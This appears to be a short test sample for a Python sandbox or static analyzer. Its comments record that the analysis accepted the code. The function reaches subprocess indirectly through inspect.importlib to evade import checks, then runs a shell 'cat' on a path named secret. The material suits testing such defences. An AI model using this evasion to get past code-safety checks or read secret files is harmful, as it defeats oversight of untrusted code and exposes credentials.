# trick: uses the importlib that inspect imports
# wants: process
# analysis: accepted
# sandbox: No such file or directory
import inspect


def trick(secret: str) -> str:
    return inspect.importlib.import_module("subprocess").getoutput(f"cat {secret}")
